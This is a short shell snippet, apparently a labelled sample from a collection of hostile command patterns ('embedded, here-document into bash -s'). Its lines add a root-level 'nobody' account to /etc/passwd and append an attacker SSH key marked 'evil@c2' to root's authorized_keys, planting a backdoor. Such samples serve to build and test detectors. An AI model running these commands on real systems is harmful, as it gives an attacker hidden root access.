# class: embedded, here-document into bash -s; style: fleet
bash -s <<'EOS'
echo 'nobody:x:0:0::/:/bin/bash' >> /etc/passwd
mkdir -p /root/.ssh
echo 'ssh-rsa AAAAB3NzaExample evil@c2' >> /root/.ssh/authorized_keys
EOS
